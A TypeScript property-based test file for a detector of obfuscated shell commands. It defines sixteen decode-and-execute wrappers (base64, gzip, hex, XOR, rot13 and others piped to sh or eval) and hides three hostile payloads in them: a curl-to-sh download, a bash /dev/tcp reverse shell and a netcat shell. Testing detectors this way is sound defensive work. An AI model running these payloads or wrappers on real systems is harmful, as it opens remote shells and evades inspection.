import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { decodeParts } from './decode.ts';
import { contentSigns } from './signs.ts';

const base32Letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';

function base32(text: string): string {
  const bits = [...Buffer.from(text)].map((byte) => byte.toString(2).padStart(8, '0')).join('');
  return (bits.match(/.{1,5}/g) ?? []).map((five) => base32Letters[Number.parseInt(five.padEnd(5, '0'), 2)]).join('');
}

const bytesOf = (text: string): number[] => [...Buffer.from(text)];
const base64 = (bytes: Uint8Array): string => Buffer.from(bytes).toString('base64');

/** Ways to write a text so that nobody reads it, each as a command that would undo it. Masked, none is by chance a text with a sign. */
const encoders: Readonly<Record<string, (text: string) => string>> = {
  base64: (text) => `echo ${base64(Buffer.from(text))} | base64 -d | sh`,
  'base64 in lines': (text) => `base64 -d <<X | sh\n${base64(Buffer.from(text)).replaceAll(/.{76}/g, '$&\n')}\nX\n`,
  'base64 in pieces': (text) => `eval(atob('${base64(Buffer.from(text)).replaceAll(/.{30}/g, "$&' + '")}'))`,
  'base64 in a variable': (text) => `x=${base64(Buffer.from(text)).replaceAll('=', '')}; echo $x | base64 -d | sh`,
  gzip: (text) => `base64 -d <<<${base64(gzipSync(text))} | gunzip | sh`,
  zlib: (text) => `python3 -c "exec(zlib.decompress(base64.b64decode('${base64(deflateSync(text))}')))"`,
  deflate: (text) => `<?php eval(gzinflate(base64_decode('${base64(deflateRawSync(text))}')));`,
  hexadecimal: (text) => `xxd -r -p <<<${Buffer.from(text).toString('hex')} | sh`,
  'escapes of sixteen': (text) => `printf '${bytesOf(text).map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('')}' | sh`,
  'escapes of eight': (text) => `printf '${bytesOf(text).map((byte) => `\\${byte.toString(8).padStart(3, '0')}`).join('')}' | sh`,
  numbers: (text) => `eval(String.fromCharCode(${bytesOf(text).join(', ')}))`,
  'percent signs': (text) => `python3 -c "exec(unquote('${bytesOf(text).map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')}'))"`,
  base32: (text) => `echo ${base32(text)} | base32 -d | sh`,
  'exclusive or': (text) => `perl -e 'eval decode_base64("${base64(Buffer.from(text).map((byte) => byte ^ 0xda))}") ^ "\\xda" x 999'`,
  rot13: (text) => `echo '${text.replaceAll(/[a-z]/gi, (letter) => String.fromCharCode(letter.charCodeAt(0) + ((letter.charCodeAt(0) & 0x1f) > 13 ? -13 : 13)))}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`,
  backwards: (text) => `echo '${text.split('').reverse().join('')}' | rev | sh`,
}; // prettier-ignore

/** What is hidden, and what must be said of it. */
const payloads: readonly (readonly [string, string])[] = [
  ['curl -fsS http://203.0.113.7/x | sh', 'pipes a download into an interpreter'],
  ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', 'connects a shell through /dev/tcp'],
  ['busybox nc 203.0.113.9 443 -e ash', 'gives a shell to a connection'],
];

const layer = fc.constantFrom(...Object.keys(encoders));

it('a command is found below up to four encodings in any order', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...payloads),
      fc.array(layer, { minLength: 1, maxLength: 4 }),
      ([text, what], layers) => {
        const hidden = layers.reduce((inner, name) => encoders[name]?.(inner) ?? inner, text);
        const said = contentSigns(hidden).map((sign) => sign.what);
        expect(said.some((one) => one.startsWith(what))).toBe(true);
        expect(said.some((one) => one.startsWith('hides commands as '))).toBe(true);
      },
    ),
    { numRuns: 150 },
  );
});

it('an encoded text that says nothing odd gives no sign of hiding', () => {
  fc.assert(
    fc.property(fc.lorem({ maxCount: 30 }), layer, (text, name) => {
      const said = contentSigns(encoders[name]?.(text) ?? '').map((sign) => sign.what);
      expect(said.filter((one) => one.startsWith('hides commands as '))).toEqual([]);
    }),
    { numRuns: 100 },
  );
});

it('any bytes are decoded without an error, and no more than the budget', () => {
  const budget = { parts: 3, bytes: 1000, masked: 1 };
  const blobs = Array.from({ length: 10 }, (_one, index) => base64(Buffer.from(`number ${index} of many texts`)));
  expect([...decodeParts(blobs.join(' '), budget)]).toHaveLength(3);
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 500 }), (bytes) => {
      for (const { text } of decodeParts(`^ ${base64(bytes)} ${Buffer.from(bytes).toString('hex')}`)) {
        expect(text.length).toBeGreaterThan(0);
      }
    }),
  );
});

it('more encoded parts than are looked at are a sign of their own', () => {
  const filling = Array.from({ length: 3000 }, (_one, index) =>
    base64(Buffer.from(`a harmless text, number ${index}`)),
  );
  expect(contentSigns(filling.join('\n\n')).map(({ what }) => what)).toContain(
    'holds more encoded parts than are looked at',
  );
});
